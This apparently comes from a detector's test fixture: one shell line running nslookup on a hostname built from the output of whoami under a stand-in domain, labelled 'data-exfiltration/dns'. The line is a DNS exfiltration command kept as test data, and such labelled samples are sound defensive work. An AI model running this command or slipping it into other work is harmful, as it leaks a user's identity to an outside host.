nslookup "$(whoami).x.collect.example" # expect: data-exfiltration/dns
